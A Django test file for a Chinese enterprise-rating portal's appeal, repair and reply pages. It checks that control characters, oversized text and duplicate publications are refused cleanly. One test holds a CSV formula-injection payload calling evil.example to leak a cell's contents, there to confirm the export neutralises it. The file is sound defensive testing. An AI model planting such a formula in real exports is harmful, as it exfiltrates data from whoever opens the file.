"""Hostile input on the due-process pages (issue #16): re-rating, reply, credit repair, 好差评.

Each answer names the field and writes nothing; none is a server error. (Who may open each page
is in the access matrix, tests/access/; the reply's own text rules in test_rating_reply.py.)
"""

import datetime

import pytest
from django.test import Client
from django.urls import reverse

from assessments.models import ServiceRating, TransactionKind
from assessments.services.service_ratings import offer_service_rating
from ratings.models import Listing, PublicityBatch, RepairRequest, Rerating
from ratings.services import replies
from tests.assessment_support import pdf_upload
from tests.conftest import sign_in
from tests.repair_support import on, published_no_star

pytestmark = pytest.mark.django_db

LISTED = datetime.date(2026, 6, 28)
# Past the three-month shortest display and the three-month wait for a re-rating.
LATER = datetime.date(2026, 10, 12)
HOSTILE = {
    "NUL": "整改完毕\x00",
    "escape sequence": "整改\x1b[2J完毕",
    "bidirectional override": "整改\u202e完毕",
}
CONTROL_MESSAGE = "含有控制字符"


@pytest.fixture(autouse=True)
def no_broker(monkeypatch):
    monkeypatch.setattr("portal.queue.send_tasks", lambda calls: True)


@pytest.fixture
def lenient():
    """A client that shows what a user would get instead of raising a server error."""
    return Client(raise_request_exception=False)


@pytest.fixture
def listed(world):
    with on(LISTED):
        return published_no_star(world)


def field_error(response, field: str) -> str:
    return " ".join(response.context["form"].errors.get(field, []))


def test_enterprise_texts_with_control_characters_or_100_kb_are_refused_by_field(
    world, listed, lenient
):
    listing = Listing.objects.get(rating=listed)
    with on(LATER):
        offered = offer_service_rating(
            unit=world.unit, kind=TransactionKind.REPAIR_DECISION, obj=listing
        )
        sign_in(lenient, world.users["enterprise"])
        forms = [
            (
                reverse("ratings:repair_apply", args=[listing.pk]),
                lambda text: {"statement": text, "evidence": pdf_upload()},
                "statement",
                4000,
            ),
            (
                reverse("ratings:rerating_request", args=[listed.pk]),
                lambda text: {"statement": text, "files": [pdf_upload()]},
                "statement",
                4000,
            ),
            (
                reverse("feedback:rate", args=[offered.pk]),
                lambda text: {"score": "1", "comment": text},
                "comment",
                1000,
            ),
        ]
        for url, data, field, limit in forms:
            for name, text in HOSTILE.items():
                response = lenient.post(url, data(text))
                assert response.status_code in (200, 400), (url, name)
                assert CONTROL_MESSAGE in field_error(response, field), (url, name)
            response = lenient.post(url, data("整" * 100_000))
            assert str(limit) in field_error(response, field), url
    assert not RepairRequest.objects.exists()
    assert not Rerating.objects.exists()
    assert not ServiceRating.objects.rated().exists()


def test_line_ends_and_tabs_in_a_statement_are_kept(world, listed, client):
    listing = Listing.objects.get(rating=listed)
    with on(LATER):
        sign_in(client, world.users["enterprise"])
        client.post(
            reverse("ratings:repair_apply", args=[listing.pk]),
            {"statement": "一、隐患已整改。\r\n二、\t台账已补齐。", "evidence": pdf_upload()},
        )
    assert RepairRequest.objects.get().statement == "一、隐患已整改。\r\n二、\t台账已补齐。"


def test_bureau_reasons_with_control_characters_are_refused_by_field(world, listed, lenient):
    listing = Listing.objects.get(rating=listed)
    with on(LATER):
        sign_in(lenient, world.users["enterprise"])
        lenient.post(
            reverse("ratings:repair_apply", args=[listing.pk]),
            {"statement": "隐患已整改。", "evidence": pdf_upload()},
        )
        lenient.post(
            reverse("ratings:rerating_request", args=[listed.pk]),
            {"statement": "隐患已整改。", "files": [pdf_upload()]},
        )
        offered = offer_service_rating(
            unit=world.unit, kind=TransactionKind.REPAIR_DECISION, obj=listing
        )
        lenient.post(reverse("feedback:rate", args=[offered.pk]), {"score": "1", "comment": ""})
        request, rerating = RepairRequest.objects.get(), Rerating.objects.get()

        sign_in(lenient, world.users["bureau"])
        for name, text in HOSTILE.items():
            decided = lenient.post(
                reverse("ratings:repair_decide", args=[request.pk]),
                {"decision": "refuse", "reason": text},
            )
            assert CONTROL_MESSAGE in field_error(decided, "reason"), name
            answered = lenient.post(
                reverse("feedback:ticket_answer", args=[offered.pk]), {"answer": text}
            )
            assert CONTROL_MESSAGE in field_error(answered, "answer"), name
            refused = lenient.post(
                reverse("ratings:rerating_decide", args=[rerating.pk]),
                {"decision": "refuse", "reason": text, "expected_status": "submitted"},
                follow=True,
            )
            shown = " ".join(str(message) for message in refused.context["messages"])
            assert "理由（将告知申请单位）" in shown and CONTROL_MESSAGE in shown, name
    request.refresh_from_db()
    offered.refresh_from_db()
    rerating.application.refresh_from_db()
    assert request.is_pending and not offered.is_answered
    assert rerating.application.awaits_acceptance


def test_publicity_for_a_rerating_not_yet_graded_or_posted_twice_is_a_message(
    world, listed, lenient
):
    with on(LATER):
        sign_in(lenient, world.users["enterprise"])
        lenient.post(
            reverse("ratings:rerating_request", args=[listed.pk]),
            {"statement": "隐患已整改。", "files": [pdf_upload()]},
        )
        rerating = Rerating.objects.get()
        sign_in(lenient, world.users["bureau"])
        response = lenient.post(
            reverse("ratings:rerating_publicity", args=[rerating.pk]),
            {"starts_at": "2026-10-12T09:00", "ends_at": "2026-10-19T17:00"},
            follow=True,
        )
    assert response.status_code == 200
    assert [str(message) for message in response.context["messages"]]
    assert not PublicityBatch.objects.filter(items__application=rerating.application).exists()


def test_a_published_reply_that_looks_like_a_formula_stays_text_in_the_open_data_csv(
    world, listed, client
):
    formula = '=HYPERLINK("http://evil.example/?"&A2,"详情")'
    reply = replies.submit(user=world.users["enterprise"], rating=listed, text=formula)
    replies.decide(actor=world.users["bureau"], reply=reply, action=replies.PUBLISH)
    body = b"".join(client.get(reverse("api:ratings_csv")).streaming_content).decode("utf-8-sig")
    assert "'=HYPERLINK" in body
    assert ',"=HYPERLINK' not in body and "\n=HYPERLINK" not in body


def test_a_rerating_result_published_twice_is_published_once(world, lenient):
    """Two tabs, or a double click: the second publication is refused with a message."""
    from ratings.models import Publication, Rating
    from tests.rerating_support import evaluate, publish_result, through_publicity_and_confirmation

    rating = publish_result(world, LISTED, "70.0")
    with on(LATER):
        sign_in(lenient, world.users["enterprise"])
        lenient.post(
            reverse("ratings:rerating_request", args=[rating.pk]),
            {"statement": "隐患已整改。", "files": [pdf_upload()]},
        )
        rerating = Rerating.objects.get()
        sign_in(lenient, world.users["bureau"])
        lenient.post(
            reverse("ratings:rerating_decide", args=[rerating.pk]),
            {"decision": "accept", "reason": "材料齐全，受理。", "expected_status": "submitted"},
        )
        rerating.refresh_from_db()
        evaluate(rerating, world.users, "88.0")
        through_publicity_and_confirmation(rerating, world.users)
        url = reverse("ratings:rerating_publish", args=[rerating.pk])
        data = {"publish_on": LATER.isoformat(), "document_number": "2"}
        assert lenient.post(url, data).status_code == 302
        again = lenient.post(url, {**data, "document_number": "3"}, follow=True)
    assert again.status_code == 200
    assert [str(message) for message in again.context["messages"]]
    assert Publication.objects.filter(applications=rerating.application).count() == 1
    assert Rating.objects.filter(application=rerating.application).count() == 1
